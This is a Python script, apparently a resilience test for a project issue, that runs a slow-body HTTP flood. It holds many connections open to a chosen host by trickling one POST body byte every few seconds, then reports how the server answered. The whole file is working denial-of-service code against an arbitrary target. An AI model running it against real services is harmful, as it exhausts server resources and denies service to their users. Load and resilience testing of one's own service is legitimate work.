# A slow-body flood (issue 30):
# `python3 slow_bodies.py HOST PORT PATH TOKEN CONNECTIONS SECONDS [LENGTH]` opens CONNECTIONS
# connections to HOST:PORT, each sending the head of a POST to PATH (with
# `Authorization: Bearer TOKEN` unless TOKEN is "-", and a Content-Length of LENGTH, default
# 1,000,000: a length within the service's limit makes it wait for the body) and then
# one body byte every 4 s, for SECONDS in all. A connection the server closes is opened again
# (the attack keeps its count). At the end it prints one JSON line: how many connections were
# opened, refused at connect, answered (by status), closed without an answer, still open.
# Bounded: CONNECTIONS and SECONDS are the caller's, and every socket is closed at the end.
import asyncio, json, resource, sys, time

# A container's soft descriptor limit is often 1024: as high as the hard limit allows.
_, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))

HOST, PORT, PATH, TOKEN = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
CONNECTIONS, SECONDS = int(sys.argv[5]), float(sys.argv[6])
LENGTH = int(sys.argv[7]) if len(sys.argv) > 7 else 1_000_000
stats = {"opened": 0, "refused": 0, "answered": {}, "closed": 0, "open_at_end": 0}
end = time.monotonic() + SECONDS


def head():
    auth = "" if TOKEN == "-" else f"Authorization: Bearer {TOKEN}\r\n"
    return (f"POST {PATH} HTTP/1.1\r\nHost: {HOST}\r\n{auth}"
            f"Content-Type: application/json\r\nContent-Length: {LENGTH}\r\n\r\n").encode()


async def one():
    while time.monotonic() < end:
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(HOST, PORT), 5)
        except (OSError, asyncio.TimeoutError):
            stats["refused"] += 1
            await asyncio.sleep(0.5)
            continue
        stats["opened"] += 1
        answered = False
        try:
            writer.write(head())
            await writer.drain()
            while time.monotonic() < end:
                try:
                    line = await asyncio.wait_for(reader.readline(), 4)
                except asyncio.TimeoutError:
                    writer.write(b"{")
                    await writer.drain()
                    continue
                if not line:
                    break
                status = line.split(b" ")[1].decode() if line.startswith(b"HTTP/") else "?"
                stats["answered"][status] = stats["answered"].get(status, 0) + 1
                answered = True
                break
            else:
                stats["open_at_end"] += 1
        except OSError:
            pass
        finally:
            if not answered and time.monotonic() < end:
                stats["closed"] += 1
            writer.close()


async def main():
    await asyncio.gather(*(one() for _ in range(CONNECTIONS)))
    print(json.dumps(stats), flush=True)


asyncio.run(main())
